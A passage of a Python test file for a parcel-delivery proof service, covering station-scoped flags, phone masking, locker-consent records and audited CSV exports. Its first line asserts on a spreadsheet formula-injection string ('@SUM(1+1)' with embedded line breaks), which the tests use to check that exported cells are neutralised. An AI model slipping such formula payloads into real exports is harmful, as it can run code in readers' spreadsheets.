    assert row["pod_relation"] == "self\r\n \"'@SUM(1+1)\r'-2+3"


def _a_flagged_parcel_moved_to_the_other_station(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
) -> tuple[int, Flag]:
    """The signed delivery's proof and ST1's ``pod_blob_missing`` flag about its parcel,
    once the parcel is taken in again at ST2."""
    signed = day["signed"]
    items = client.get(URL, headers=auth.headers("auditor1")).get_json()["items"]
    event_id = next(i["event_id"] for i in items if i["tracking_no"] == signed.tracking_no)
    old_flag = session.scalars(
        select(Flag).where(Flag.subject_key == signed.tracking_no, Flag.kind == "pod_blob_missing")
    ).one()
    assert old_flag.station_id == world.station.id
    moved = client.post(
        "/api/v1/parcels",
        json={
            "parcels": [
                {
                    "tracking_no": signed.tracking_no,
                    "service_class": "express",
                    "recipient_name": signed.recipient_name,
                    "address": signed.address,
                    "station": world.other_station.code,
                }
            ]
        },
        headers=auth.headers("admin"),
    )
    assert moved.get_json()["results"][0]["status"] == "updated"
    return event_id, old_flag


def test_a_proof_of_a_parcel_moved_on_shows_a_manager_only_their_own_stations_flags(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
) -> None:
    """ST1's flag about a parcel stays ST1's when the parcel is taken in at ST2: ST2's
    manager, for whom GET /flags/<id> does not find it, does not read it in a proof either
    (API and page); an auditor still sees every station's."""
    event_id, old_flag = _a_flagged_parcel_moved_to_the_other_station(
        client, auth, session, world, day
    )
    manager = auth.headers("manager2")
    assert client.get(f"/api/v1/flags/{old_flag.id}", headers=manager).status_code == 404
    body = client.get(f"{URL}/{event_id}", headers=manager).get_json()
    shown = [session.get(Flag, f["id"]) for f in body["flags"]]
    assert all(f is not None and f.station_id == world.other_station.id for f in shown)
    page = signed_in(client.application, "manager2").get(f"/web/proofs/{event_id}")
    assert f'href="/web/flags/{old_flag.id}"' not in page
    auditor = client.get(f"{URL}/{event_id}", headers=auth.headers("auditor1")).get_json()
    assert old_flag.id in [f["id"] for f in auditor["flags"]]


def test_a_managers_flag_kind_search_finds_only_their_own_stations_flags(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
) -> None:
    """Searching proofs by a kind of flag tells ST2's manager nothing of ST1's flags
    about a parcel now at ST2 (API, page and export); an auditor's search finds it."""
    event_id, _ = _a_flagged_parcel_moved_to_the_other_station(client, auth, session, world, day)
    query = {"flag_kind": "pod_blob_missing"}

    def found(role: str) -> list[int]:
        answer = client.get(URL, headers=auth.headers(role), query_string=query)
        assert answer.status_code == 200
        return [item["event_id"] for item in answer.get_json()["items"]]

    assert event_id not in found("manager2")
    assert event_id in found("auditor1")
    page = signed_in(client.application, "manager2")
    assert f"/web/proofs/{event_id}" not in page.get("/web/proofs?flag_kind=pod_blob_missing")
    export = page.get("/web/proofs/export.csv?flag_kind=pod_blob_missing")
    assert day["signed"].tracking_no not in export


def test_the_authorizing_consents_evidence_is_masked_except_for_auditors(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The channel notes the number the recipient called from in the consent's
    evidence: a manager reading the drop it authorized sees it masked, as in the
    consents list; an auditor whole."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(minutes=40)
    granted = client.post(
        "/api/v1/consents",
        json={
            "tracking_no": parcel.tracking_no, "method": "locker", "channel": "phone_call",
            "granted_at": (at - dt.timedelta(minutes=5)).isoformat(),
            "evidence": "recipient called from 13812345678",
        },
        headers=auth.headers("app1"),
    )  # fmt: skip
    assert granted.status_code == 201, granted.get_json()
    events = [
        factories.event(1, parcel.tracking_no, occurred_at=at),
        factories.event(
            2, parcel.tracking_no, "delivered_to_locker", occurred_at=at + dt.timedelta(minutes=5),
            locker_id="L-1", compartment="5", pod={"pickup_code": "9981"},
        ),
    ]  # fmt: skip
    headers = auth.headers("courier1", "PDA-0001")
    client.post("/api/v1/sync/push", json=factories.push_body("PDA-0001", events), headers=headers)
    (item,) = client.get(
        URL, query_string={"tracking_no": parcel.tracking_no}, headers=auth.headers("manager1")
    ).get_json()["items"]

    def evidence(username: str) -> str:
        body = client.get(f"{URL}/{item['event_id']}", headers=auth.headers(username)).get_json()
        return body["authorizing_consent"]["evidence"]

    assert evidence("manager1") == "recipient called from ********678"
    assert evidence("admin") == "recipient called from ********678"
    assert evidence("auditor1") == "recipient called from 13812345678"


def test_a_phone_typed_into_the_pod_is_masked_except_for_auditors(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The courier writes the number of the neighbour who signed into the relation: the
    proof's timeline showed it masked since b46effb, but its own POD, the export and the
    pages showed it whole to managers. Auditors read it whole everywhere."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(minutes=40)
    pod = {
        "recipient_name": "Wang",
        "relation": "neighbour 13812345678",
        "signature_sha256": "b" * 64,
    }
    events = [
        factories.event(1, parcel.tracking_no, occurred_at=at),
        factories.event(2, parcel.tracking_no, "delivered", occurred_at=at, pod=pod),
    ]
    headers = auth.headers("courier1", "PDA-0001")
    client.post("/api/v1/sync/push", json=factories.push_body("PDA-0001", events), headers=headers)
    query = {"tracking_no": parcel.tracking_no}
    (item,) = client.get(URL, query_string=query, headers=auth.headers("manager1")).get_json()[
        "items"
    ]
    for username, relation in (
        ("manager1", "neighbour ********678"),
        ("auditor1", "neighbour 13812345678"),
    ):
        listed = client.get(URL, query_string=query, headers=auth.headers(username)).get_json()
        detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers(username))
        (drop,) = (e for e in detail.get_json()["timeline"] if e["type"] == "delivered")
        assert listed["items"][0]["pod"]["relation"] == relation, username
        assert detail.get_json()["pod"]["relation"] == relation, username
        assert drop["details"]["pod"]["relation"] == relation, username
        export = client.get(
            f"{URL}/export.csv", query_string=query, headers=auth.headers(username)
        )
        (row,) = exported(export.get_data(as_text=True))
        assert row["pod_relation"] == relation, username
        page = signed_in(client.application, username).get(f"/web/proofs/{item['event_id']}")
        assert f"({relation})" in page, username
        assert ("13812345678" in page) == (username == "auditor1"), username


# -- an auditor settling a locker dispute ------------------------------------------------------


@pytest.fixture
def dispute(client: FlaskClient, auth: Auth, session: Session, world: World) -> dict[str, Any]:
    """An express parcel with an SMS consent for locker L-1, granted and recorded before
    the drop; a mis-tapped drop into compartment 3, voided; the drop into compartment 5
    with its photo and pickup code."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(minutes=40)
    consent = client.post(
        "/api/v1/consents",
        json={
            "tracking_no": parcel.tracking_no, "method": "locker", "point_id": "L-1",
            "channel": "sms", "granted_at": (at - dt.timedelta(minutes=5)).isoformat(),
            "evidence": "SMS reply Y",
        },
        headers=auth.headers("app1"),
    )  # fmt: skip
    assert consent.status_code == 201, consent.get_json()
    mistap = factories.event(
        2, parcel.tracking_no, "delivered_to_locker", occurred_at=at + dt.timedelta(minutes=5),
        locker_id="L-1", compartment="3", pod={"pickup_code": "1111"},
    )  # fmt: skip
    correction = factories.event(
        3, parcel.tracking_no, "correction", occurred_at=at + dt.timedelta(minutes=6),
        voids_client_event_id=mistap["client_event_id"], reason="wrong compartment",
    )  # fmt: skip
    drop = factories.event(
        4, parcel.tracking_no, "delivered_to_locker", occurred_at=at + dt.timedelta(minutes=7),
        locker_id="L-1", compartment="5", pod={"pickup_code": "2222", "photo_sha256": "a" * 64},
    )  # fmt: skip
    receipt = auth.push(
        [factories.event(1, parcel.tracking_no, occurred_at=at), mistap, correction, drop]
    )
    assert [r["status"] for r in receipt["results"]] == ["applied"] * 4
    return {"parcel": parcel, "consent": consent.get_json(), "drop": drop, "at": at}


def _export(client: FlaskClient, auth: Auth, query: dict[str, str]) -> list[dict[str, str]]:
    response = client.get(
        f"{URL}/export.csv", query_string=query, headers=auth.headers("auditor1")
    )
    assert response.status_code == 200
    return exported(response.get_data(as_text=True))


def _items(client: FlaskClient, auth: Auth, tracking_no: str) -> list[dict[str, Any]]:
    query = {"tracking_no": tracking_no}
    items: list[dict[str, Any]] = client.get(
        URL, query_string=query, headers=auth.headers("auditor1")
    ).get_json()["items"]
    return items


def test_the_search_and_the_export_name_the_locker_and_the_compartment(
    client: FlaskClient, auth: Auth, dispute: dict[str, Any]
) -> None:
    """The recipient asks "which locker, which compartment?". Without them the search and
    the export listed two locker proofs and said neither where: the voided mis-tap's
    compartment could not be told from the real one's, nor the drop checked against the
    consent's point."""
    items = _items(client, auth, dispute["parcel"].tracking_no)
    assert [(i["locker_id"], i["compartment"], i["point_id"], i["voided"]) for i in items] == [
        ("L-1", "3", None, True),
        ("L-1", "5", None, False),
    ]
    rows = _export(client, auth, {"tracking_no": dispute["parcel"].tracking_no})
    assert [(r["locker_id"], r["compartment"], r["point_id"], r["voided"]) for r in rows] == [
        ("L-1", "3", "", "true"),
        ("L-1", "5", "", "false"),
    ]


def test_the_search_and_the_export_say_which_consent_authorized_each_drop(
    client: FlaskClient, auth: Auth, dispute: dict[str, Any]
) -> None:
    """As the proofs page does for every drop: without it a month's export of locker
    drops could not tell the authorized from the unauthorized ones (rule 4)."""
    consent = dispute["consent"]
    real = _items(client, auth, dispute["parcel"].tracking_no)[1]
    detail = client.get(f"{URL}/{real['event_id']}", headers=auth.headers("auditor1")).json
    assert real["authorizing_consent"] == detail["authorizing_consent"]
    assert real["authorizing_consent"]["id"] == consent["id"]
    rows = _export(client, auth, {"tracking_no": dispute["parcel"].tracking_no})
    row = next(r for r in rows if r["event_id"] == str(real["event_id"]))
    assert (
        row["authorizing_consent_id"],
        row["authorizing_consent_channel"],
        dt.datetime.fromisoformat(row["authorizing_consent_granted_at"]),
    ) == (str(consent["id"]), "sms", dt.datetime.fromisoformat(consent["granted_at"]))


# A time as the JSON answers write it, which a strict ISO 8601 parser (Java's
# OffsetDateTime.parse) reads: a `T`, in UTC, a fraction only off a whole second.
STRICT_UTC_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{6})?\+00:00")


# The authorizing consent's fields the export writes, each as `authorizing_consent_<name>`.
CONSENT_NAMED = ("id", "channel", "granted_at", "created_at", "created_by")
# Typed by a recipient, a sender or a courier (and the phone number): such text may begin
# as a formula does, and is written with an apostrophe then (``sync.spreadsheets``).
TYPED = (
    "recipient_name",
    "recipient_phone",
    "address",
    "pod_recipient_name",
    "pod_relation",
    "pickup_code",
    "locker_id",
    "compartment",
    "point_id",
)
TIME = ("_at", "_at_device")  # how the export's time columns' names end


def test_the_export_writes_each_cell_as_the_search_answers_it(
    client: FlaskClient, auth: Auth, dispute: dict[str, Any]
) -> None:
    """An auditor's script matched the export's rows to the search's items by text, and
    read their times with a strict ISO 8601 parser: the export wrote Python's own
    (`2026-12-04 09:12:00.123456+00:00`, a space for the `T`; `True`, `False`), which
    matched nothing and did not parse. Each cell of a field the search answers holds
    the JSON's text, a null an empty cell."""
    tracking_no = dispute["parcel"].tracking_no
    items, rows = (
        _items(client, auth, tracking_no),
        _export(client, auth, {"tracking_no": tracking_no}),
    )
    assert [(i["voided"], r["voided"]) for i, r in zip(items, rows, strict=True)] == [
        (True, "true"),
        (False, "false"),
    ]
    for item, row in zip(items, rows, strict=True):
        consent = item["authorizing_consent"] or {}
        answered = {
            **{c: item[c] for c in proofs_routes.CSV_COLUMNS if c in item and c not in TYPED},
            **{f"authorizing_consent_{name}": consent.get(name) for name in CONSENT_NAMED},
            **{f"{i['role']}_arrived_at": i["arrived_at"] for i in item["images"]},
        }
        assert {column: row[column] for column in answered} == {
            column: json_text(value) for column, value in answered.items()
        }
        # Typed by a person, and the phone: as text, never a formula (an apostrophe).
        assert row["recipient_phone"] == "'" + item["recipient_phone"]
        times = {c for c in proofs_routes.CSV_COLUMNS if c.endswith(TIME) and row[c]}
        assert {"occurred_at", "occurred_at_device", "received_at"} <= times
        for column in times:
            assert STRICT_UTC_TIME.fullmatch(row[column]), (column, row[column])
    assert (
        rows[-1]["authorizing_consent_granted_at"]
        == items[-1]["authorizing_consent"]["granted_at"]
    )  # the drop's consent's times too


def test_a_proof_says_whether_its_drop_needed_a_consent(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Two locker drops without any consent: an express parcel's (unauthorized, rule 4)
    and a `parcel`-class one's (none needed). Without the class and whether it needs a
    consent, both read `authorizing_consent: null` and an auditor could not tell from
    the proof whether the courier broke the rule, as the proof page tells."""
    express = factories.parcel(session, world.station)
    ordinary = factories.parcel(session, world.station, service_class=ServiceClass.PARCEL)
    signed = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(minutes=30)
    auth.push(
        [
            *(factories.event(n, p.tracking_no, occurred_at=at) for n, p in enumerate(
                (express, ordinary, signed), start=1
            )),
            factories.locker_drop(4, express.tracking_no, at + dt.timedelta(minutes=5)),
            factories.locker_drop(5, ordinary.tracking_no, at + dt.timedelta(minutes=6)),
            factories.event(6, signed.tracking_no, "delivered", occurred_at=at, pod=SIGNED),
        ]
    )  # fmt: skip
    seen = {}
    for parcel in (express, ordinary, signed):
        (item,) = _items(client, auth, parcel.tracking_no)
        detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers("auditor1")).json
        (row,) = _export(client, auth, {"tracking_no": parcel.tracking_no})
        assert detail["authorizing_consent"] is None and row["authorizing_consent_id"] == ""
        assert item["consent_required"] == detail["consent_required"]
        seen[detail["method"], detail["service_class"]] = (
            detail["consent_required"],
            row["consent_required"],
        )
    assert seen == {
        ("locker", "express"): (True, "true"),
        ("locker", "parcel"): (False, "false"),
        ("in_person", "express"): (None, ""),  # not left unattended: no consent to need
    }


def test_a_proof_shows_that_its_drop_was_sent_again_with_other_content(
    client: FlaskClient, auth: Auth, dispute: dict[str, Any]
) -> None:
    """After the complaint the PDA sends the drop again, same id, another compartment and
    time. The first version stands and a `conflicting_duplicate` flag cites it; the
    proof's flags, "any flag citing this delivery", left that flag out: the auditor
    reading the proof was not told the drop was rewritten."""
    rewritten = {
        **dispute["drop"],
        "compartment": "7",
        "occurred_at": (dispute["at"] - dt.timedelta(minutes=30)).isoformat(),
    }
    assert auth.push([rewritten])["results"][0]["error"]["code"] == "conflicting_duplicate"
    voided, real = _items(client, auth, dispute["parcel"].tracking_no)
    auditor = auth.headers("auditor1")
    flags = client.get(
        "/api/v1/flags", query_string={"kind": "conflicting_duplicate"}, headers=auditor
    ).get_json()["items"]
    assert [f["evidence"]["event_ids"] for f in flags] == [[real["event_id"]]]
    for headers in (auditor, auth.headers("manager1")):
        detail = client.get(f"{URL}/{real['event_id']}", headers=headers).get_json()
        assert "conflicting_duplicate" in [f["kind"] for f in detail["flags"]]
    other = client.get(f"{URL}/{voided['event_id']}", headers=auditor).get_json()
    assert "conflicting_duplicate" not in [f["kind"] for f in other["flags"]]


def test_an_export_is_audit_logged_naming_the_proofs_it_sent(
    client: FlaskClient, auth: Auth, session: Session, world: World, dispute: dict[str, Any]
) -> None:
    """The export was logged with its filters only, which do not say what was read: a PDA
    that was offline pushes a drop of that morning after the export, and the same
    filters now select a proof the auditor never saw."""
    window = {
        "occurred_from": (dispute["at"] - dt.timedelta(hours=1)).isoformat(),
        "occurred_to": now().isoformat(),
    }
    exported = [int(r["event_id"]) for r in _export(client, auth, window)]
    assert len(exported) == 2
    late = factories.parcel(session, world.station)
    session.commit()
    auth.push(
        [
            factories.event(5, late.tracking_no, occurred_at=dispute["at"]),
            factories.locker_drop(6, late.tracking_no, dispute["at"] + dt.timedelta(minutes=9)),
        ]
    )
    entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "proofs_exported")).one()
    assert entry.details["event_ids"] == exported and entry.details["part"] == 1
    assert entry.details["occurred_from"] == str(
        dt.datetime.fromisoformat(window["occurred_from"])
    )


def test_a_big_export_logs_each_batch_before_sending_it(
    app: Flask,
    client: FlaskClient,
    auth: Auth,
    session: Session,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Streamed in batches, the export names each batch's proofs as it sends it, so that
    the log says exactly what went out, also when the reader stops half-way (API and
    page); the parts of one export share its `export_id`."""
    monkeypatch.setattr(proofs_routes, "EXPORT_BATCH", 2)
    parcels = [factories.parcel(session, world.station) for _ in range(5)]
    session.commit()
    at = now() - dt.timedelta(minutes=30)
    auth.push(
        [factories.event(n, p.tracking_no, occurred_at=at) for n, p in enumerate(parcels, 1)]
        + [
            factories.event(n, p.tracking_no, "delivered", occurred_at=at, pod=SIGNED)
            for n, p in enumerate(parcels, 6)
        ]
    )
    everything = [int(r["event_id"]) for r in _export(client, auth, {})]
    assert len(everything) == 5

    def logged() -> list[AuditEntry]:
        query = select(AuditEntry).where(AuditEntry.action == "proofs_exported")
        return list(session.scalars(query.order_by(AuditEntry.id)))

    parts = logged()
    assert [(e.details["part"], e.details["event_ids"]) for e in parts] == [
        (1, everything[:2]), (2, everything[2:4]), (3, everything[4:])
    ]  # fmt: skip
    assert len({e.details["export_id"] for e in parts}) == 1
    stream = signed_in(app, "auditor1").client.get("/web/proofs/export.csv", buffered=False)
    first = next(iter(stream.response))
    stream.close()
    (started,) = logged()[3:]
    assert started.details["part"] == 1 and started.details["event_ids"] == everything[:2]
    sent = csv.DictReader(io.StringIO(first.decode()))
    assert [int(r["event_id"]) for r in sent] == everything[:2]


def test_an_export_says_on_its_last_line_that_it_is_complete_and_one_cut_short_does_not(
    app: Flask,
    client: FlaskClient,
    auth: Auth,
    session: Session,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The status line goes out before the first proof: an export a database error cut
    short after its first batch ended with whole lines and a 200, and an auditor holding
    the file took it for every proof the filters match. A complete export (the API's and
    the page's) ends with a line saying so, with how many proofs it holds and the
    ``export_id`` its audit entries name; one cut short has no such line."""
    monkeypatch.setattr(proofs_routes, "EXPORT_BATCH", 2)
    parcels = [factories.parcel(session, world.station) for _ in range(3)]
    session.commit()
    at = now() - dt.timedelta(minutes=30)
    auth.push(
        [factories.event(n, p.tracking_no, occurred_at=at) for n, p in enumerate(parcels, 1)]
        + [
            factories.event(n, p.tracking_no, "delivered", occurred_at=at, pod=SIGNED)
            for n, p in enumerate(parcels, 4)
        ]
    )
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    assert export.status_code == 200
    *_, last = export.get_data(as_text=True).splitlines()
    (entry, *_) = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proofs_exported")
    ).all()
    assert last == f"{EXPORT_COMPLETE}: 3 proofs (export {entry.details['export_id']})"
    page = signed_in(app, "auditor1").client.get("/web/proofs/export.csv")
    assert len(exported(page.get_data(as_text=True))) == 3

    batches = proofs_routes.iter_proof_batches

    def failing(**kwargs: Any) -> Iterator[list[proofs.Proof]]:
        for part, batch in enumerate(batches(**kwargs)):
            if part == 1:
                raise OperationalError("SELECT", {}, Exception("connection lost"))
            yield batch

    monkeypatch.setattr(proofs_routes, "iter_proof_batches", failing)
    cut = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"), buffered=False)
    sent = []
    with pytest.raises(OperationalError):
        for chunk in cut.response:
            sent.append(chunk.decode())
    cut.close()
    text = "".join(sent)
    assert len(list(csv.DictReader(io.StringIO(text)))) == 2  # its first batch went out
    assert EXPORT_COMPLETE not in text


# -- an auditor settling a dispute, second reading ---------------------------------------------


def test_a_delivery_of_a_parcel_not_taken_in_is_a_proof_of_the_station_that_recorded_it(
    app: Flask, client: FlaskClient, auth: Auth, world: World
) -> None:
    """The recipient says parcel X was never delivered. The PDA recorded a signed
    delivery of X, and a locker drop of Y, both kept (rule 1) and flagged
    `unknown_parcel`: their intake data never arrived. The search joined the parcel and
    found neither: the record held a signature for X and told the auditor there was
    none. Each is a proof of the station where it was recorded, without a parcel."""
    signed_no, dropped_no = factories.s10(), factories.s10()
    at = now() - dt.timedelta(minutes=50)
    auth.push(
        [
            factories.event(1, signed_no, occurred_at=at),
            factories.event(2, signed_no, "delivered", occurred_at=at, pod=SIGNED),
            factories.event(3, dropped_no, occurred_at=at),
            factories.locker_drop(4, dropped_no, at + dt.timedelta(minutes=1)),
        ]
    )
    auditor = auth.headers("auditor1")
    signed, dropped = (_items(client, auth, n) for n in (signed_no, dropped_no))
    for (item,), method in ((signed, "in_person"), (dropped, "locker")):
        assert (item["method"], item["station_id"], item["parcel_taken_in"]) == (
            method, world.station.id, False
        )  # fmt: skip
        assert item["recipient_name"] is item["service_class"] is item["address"] is None
        assert item["consent_required"] is item["authorizing_consent"] is None  # not judged
        detail = client.get(f"{URL}/{item['event_id']}", headers=auditor).get_json()
        assert [f["kind"] for f in detail["flags"]] == ["unknown_parcel"]
        assert [e["event_id"] for e in detail["timeline"]][1:] == [item["event_id"]]
    assert signed[0]["pod"]["signature_sha256"] == "b" * 64
    (row,) = _export(client, auth, {"tracking_no": signed_no})
    assert (row["parcel_taken_in"], row["signature_sha256"]) == ("false", "b" * 64)
    # The recording station's manager sees them; another station's is told nothing.
    mine = {"station_id": world.station.id, "method": "in_person"}
    listed = client.get(URL, query_string=mine, headers=auth.headers("manager1")).get_json()
    assert numbers(listed) == [signed_no]
    theirs = client.get(URL, headers=auth.headers("manager2")).get_json()
    assert numbers(theirs) == []
    other = client.get(f"{URL}/{signed[0]['event_id']}", headers=auth.headers("manager2"))
    assert other.status_code == 404 and other.get_json()["code"] == "proof_not_found"
    pages = signed_in(app, "auditor1")
    assert "not taken in" in pages.get(f"/web/proofs?tracking_no={signed_no}")
    page = pages.get(f"/web/proofs/{dropped[0]['event_id']}")
    assert "Not taken in" in page and "Not judged" in page
    signed_in(app, "manager2").get(f"/web/proofs/{signed[0]['event_id']}", status=404)


def test_a_proof_lists_its_pdas_flags_that_cite_it(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The recipient says it was delivered late. The PDA's clock jumped: it stamped the
    delivery 40 days before the push that carried it, and the server flagged
    `clock_jump` on the PDA, citing the delivery. The proof showed that date with no
    flag: the auditor read a time weeks off as the truth. A later delivery named a
    shift not its PDA's (`wrong_shift`, citing its seq). Each proof lists the PDA's
    flag that cites it, and only that one."""
    jumped, later = (factories.parcel(session, world.station) for _ in range(2))
    session.commit()
    stamped = now() - dt.timedelta(days=40)
    receipt = auth.push(
        [
            factories.event(1, jumped.tracking_no, occurred_at=stamped),
            factories.event(2, jumped.tracking_no, "delivered", occurred_at=stamped, pod=SIGNED),
        ]
    )
    assert "clock_jump" in [f["kind"] for f in receipt["flags_raised"]]
    at = now() - dt.timedelta(minutes=10)
    claimed = {"pod": SIGNED, "shift_id": 10**6}  # no shift of this PDA
    receipt = auth.push(
        [
            factories.event(3, later.tracking_no, occurred_at=at),
            factories.event(4, later.tracking_no, "delivered", occurred_at=at, **claimed),
        ]
    )
    assert "wrong_shift" in [f["kind"] for f in receipt["flags_raised"]]
    for parcel, cited, other in (
        (jumped, "clock_jump", "wrong_shift"),
        (later, "wrong_shift", "clock_jump"),
    ):
        (item,) = _items(client, auth, parcel.tracking_no)
        for reader in ("auditor1", "manager1"):
            detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers(reader))
            kinds = [f["kind"] for f in detail.get_json()["flags"]]
            assert cited in kinds and other not in kinds, (parcel.tracking_no, reader, kinds)


def test_a_proof_keeps_its_clock_jump_flag_when_the_pdas_clock_jumps_again(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The recipient says the parcel came weeks later than the proof says. The PDA's
    clock jumped: it stamped the delivery 40 days before the push carrying it, and the
    server flagged `clock_jump` on the PDA citing it, so the proof listed the flag. A
    week later the same PDA's clock jumped again for another parcel: the one flag of
    the PDA took the new push's `client_event_ids` in place of the first's, and the
    first delivery's proof no longer lists any `clock_jump`: the auditor reads a date
    40 days off as the PDA's word, with nothing saying its clock was wrong."""
    first, second = (factories.parcel(session, world.station) for _ in range(2))
    session.commit()
    stamped = now() - dt.timedelta(days=40)
    receipt = auth.push(
        [
            factories.event(1, first.tracking_no, occurred_at=stamped),
            factories.event(2, first.tracking_no, "delivered", occurred_at=stamped, pod=SIGNED),
        ]
    )
    assert "clock_jump" in [f["kind"] for f in receipt["flags_raised"]]
    (item,) = _items(client, auth, first.tracking_no)
    detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers("auditor1")).json
    assert "clock_jump" in [f["kind"] for f in detail["flags"]]  # so far, so good

    again = now() - dt.timedelta(days=30)
    auth.push(
        [
            factories.event(3, second.tracking_no, occurred_at=again),
            factories.event(4, second.tracking_no, "delivered", occurred_at=again, pod=SIGNED),
        ]
    )
    detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers("auditor1")).json
    assert "clock_jump" in [f["kind"] for f in detail["flags"]], detail["flags"]


def test_a_proofs_authorizing_consent_says_when_and_by_whom_it_was_recorded(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The recipient says it was left in a locker without consent. The call centre
    recorded the consent 50 minutes after the drop, dated 10 minutes before it (within
    CONSENT_RECORDING_GRACE_MINUTES, so it authorizes the drop). The proof, its CSV line
    and its page showed only the channel's `granted_at`: not that it was entered after
    the parcel was in the locker, nor by whom, the very facts in dispute."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    drop_at = now() - dt.timedelta(minutes=50)
    auth.push(
        [
            factories.event(1, parcel.tracking_no, occurred_at=drop_at - dt.timedelta(minutes=30)),
            factories.locker_drop(2, parcel.tracking_no, drop_at),
        ]
    )
    consent = client.post(
        "/api/v1/consents",
        json={
            "tracking_no": parcel.tracking_no,
            "method": "locker",
            "channel": "phone_call",
            "granted_at": (drop_at - dt.timedelta(minutes=10)).isoformat(),
        },
        headers=auth.headers("app1"),
    ).get_json()
    assert consent["created_by"] == world.integration.id
    (item,) = _items(client, auth, parcel.tracking_no)
    detail = client.get(f"{URL}/{item['event_id']}", headers=auth.headers("auditor1")).json
    for authorizing in (item["authorizing_consent"], detail["authorizing_consent"]):
        assert (authorizing["id"], authorizing["created_at"], authorizing["created_by"]) == (
            consent["id"], consent["created_at"], consent["created_by"]
        )  # fmt: skip
    (row,) = _export(client, auth, {"tracking_no": parcel.tracking_no})
    assert (
        dt.datetime.fromisoformat(row["authorizing_consent_created_at"]),
        row["authorizing_consent_created_by"],
    ) == (dt.datetime.fromisoformat(consent["created_at"]), str(world.integration.id))
    recorded = dt.datetime.fromisoformat(consent["created_at"]).astimezone(
        ZoneInfo(world.station.timezone)
    )
    pages = signed_in(app, "auditor1")
    for path in (
        f"/web/proofs?station={world.station.id}&tracking_no={parcel.tracking_no}",
        f"/web/proofs/{item['event_id']}",
    ):
        assert f"recorded {recorded:%Y-%m-%d %H:%M:%S} by app1" in pages.get(path), path


# -- the rejected events naming a proof's parcel ------------------------------------------------


@pytest.fixture
def refused(client: FlaskClient, auth: Auth, session: Session, world: World) -> dict[str, Any]:
    """A parcel of ST1 delivered in person (the proof) after its PDA's locker drop of it
    was rejected for a missing locker_id (a phone number typed into its POD); later, a
    PDA of ST2 sent a refused drop naming the same parcel (a mis-sorted scan)."""
    parcel = factories.parcel(session, world.station)
    factories.user(session, "courier2", "courier", world.other_station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    drop = factories.event(
        2, parcel.tracking_no, "delivered_to_locker", occurred_at=at + dt.timedelta(minutes=5),
        compartment="7", pod={"recipient_name": "call 13812345678"},
    )  # fmt: skip
    delivered = factories.event(
        3, parcel.tracking_no, "delivered", occurred_at=at + dt.timedelta(minutes=9), pod=SIGNED
    )
    receipt = auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), drop, delivered])
    assert [r["status"] for r in receipt["results"]] == ["applied", "rejected", "applied"]
    elsewhere = factories.event(
        1, parcel.tracking_no, "delivered_to_locker", occurred_at=at, compartment="1"
    )
    receipt = auth.push([elsewhere], "courier2", "PDA-0002")
    assert [r["status"] for r in receipt["results"]] == ["rejected"]
    [proof] = _items(client, auth, parcel.tracking_no)
    return {"parcel": parcel, "drop": drop, "elsewhere": elsewhere, "proof": proof}


def _rejected_section(html: str) -> str:
    return html[html.index('id="rejected-h"') : html.index("Flags of the parcel")]


def test_the_proof_page_lists_the_parcels_rejected_drop_masked_for_a_manager(
    app: Flask, session: Session, refused: dict[str, Any]
) -> None:
    """A dispute: the parcel was signed for in person, but its PDA had tried to leave it
    in a locker first, refused for a missing locker_id. Otherwise the proof page says
    nothing of it, and the reader never learns that the PDA recorded another outcome. A
    manager sees their station's PDAs' (not another station's, as
    ``GET /quarantine`` scopes them), phone numbers masked, and their read is not
    logged."""
    html = signed_in(app, "manager1").get(f"/web/proofs/{refused['proof']['event_id']}")

    rejected = _rejected_section(html)
    assert refused["drop"]["client_event_id"] in rejected
    assert "missing_field" in rejected and "(locker_id)" in rejected
    assert "PDA-0001" in rejected and "delivered to locker" in rejected
    assert refused["elsewhere"]["client_event_id"] not in html and "PDA-0002" not in html
    assert "13812345678" not in html and "call ********678" in rejected
    assert "and more" not in rejected and "GET /api/v1/quarantine" not in rejected
    logged = session.scalars(select(AuditEntry.action)).all()
    assert "quarantine_searched" not in logged


def test_an_auditor_reads_every_stations_rejected_events_of_the_parcel_and_it_is_logged(
    app: Flask, session: Session, refused: dict[str, Any]
) -> None:
    """An auditor reads across stations: both refused drops, newest first, the phone
    number whole; the read is on the audit log as the shift page's is
    (``quarantine_searched``, naming the rejected events shown), after the proof's."""
    event_id = refused["proof"]["event_id"]

    html = signed_in(app, "auditor1").get(f"/web/proofs/{event_id}")

    rejected = _rejected_section(html)
    ours, theirs = refused["drop"]["client_event_id"], refused["elsewhere"]["client_event_id"]
    assert theirs in rejected and ours in rejected
    assert rejected.index(theirs) < rejected.index(ours)  # newest first
    assert "call 13812345678" in rejected and "PDA-0002" in rejected
    entries = session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
    assert [e.action for e in entries][-2:] == ["proof_read", "quarantine_searched"]
    read = entries[-1]
